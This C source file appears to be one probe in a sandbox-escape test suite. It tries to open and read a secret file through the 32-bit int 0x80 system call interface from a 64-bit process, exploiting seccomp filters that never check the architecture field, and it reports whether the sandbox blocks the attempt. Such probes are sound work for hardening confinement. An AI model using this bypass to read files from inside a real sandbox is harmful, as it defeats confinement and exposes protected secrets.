/*
 * Route: open and read the secret with the 32-bit system call entry point (int 0x80: open = 5,
 * read = 3) from a 64-bit process. The numbers differ from x86-64's (5 is fstat there), so a
 * filter that does not check seccomp_data.arch decides on the wrong call.
 * Pointers passed to int 0x80 are truncated to 32 bits, so the path and buffer live in a
 * MAP_32BIT mapping.
 * Stopped by: seccomp-BPF (arch != AUDIT_ARCH_X86_64 killed or denied); Landlock also checks
 * the open.
 */
#include "escape.h"

#include <sys/mman.h>

static long int80(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory");
    return result;
}

int main(int argc, char **argv) {
    if (argc != 2) {
        usage_exit("int80 SECRET");
    }
    attempt("int-0x80");
    char *low = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) {
        setup_failed("mmap-32bit");
    }
    char *path = low, *content = low + 4096;
    snprintf(path, 4096, "%s", argv[1]);
    long fd = int80(5 /* i386 open */, (long) path, O_RDONLY, 0);
    if (fd < 0) {
        blocked_with("int80-open", (int) -fd);
    }
    long length = int80(3 /* i386 read */, fd, (long) content, 4095);
    if (length < 0) {
        blocked_with("int80-read", (int) -length);
    }
    if (!is_secret(content, length)) {
        blocked_with("int80-read-content", ENODATA);
    }
    escaped("read the secret with 32-bit int 0x80 system calls", content, length);
}
